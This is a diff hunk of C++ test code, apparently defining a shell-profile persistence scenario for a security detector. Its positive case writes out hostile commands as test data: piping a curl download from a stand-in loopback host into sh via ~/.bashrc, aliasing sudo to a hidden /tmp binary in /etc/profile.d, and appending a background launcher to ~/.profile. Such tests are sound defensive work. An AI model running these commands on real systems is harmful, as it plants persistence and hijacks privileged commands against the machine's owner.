@@ -380,7 +380,7 @@ Scenario ShellProfilePersistence(const Paths& p, bool positive) {
       .files = {{p.home + "/.profile", "# ~/.profile\n"}, {p.home + "/.bashrc", "alias ll='ls -l'\n"}}};
   if (positive) {
     s.cmds = {{{kSh, "-c", "echo 'curl -s http://127.0.0.1:9/x | sh &' >> ~/.bashrc"}, "", home_env},
-              {{kSh, "-c", "echo 'alias sudo=/tmp/.s' | tee -a /etc/profile.d/lib1.sh"}},
+              {{kSh, "-c", "echo 'alias sudo=/tmp/.s' | tee -a /etc/profile.d/lib1.sh"}, "tee"},
               {{SystemBinary("sed"), "-i", "$a nohup /tmp/.x >/dev/null 2>&1 &", p.home + "/.profile"}}};
   } else {
     s.cmds = {{{SystemBinary("cat"), p.home + "/.bashrc"}},
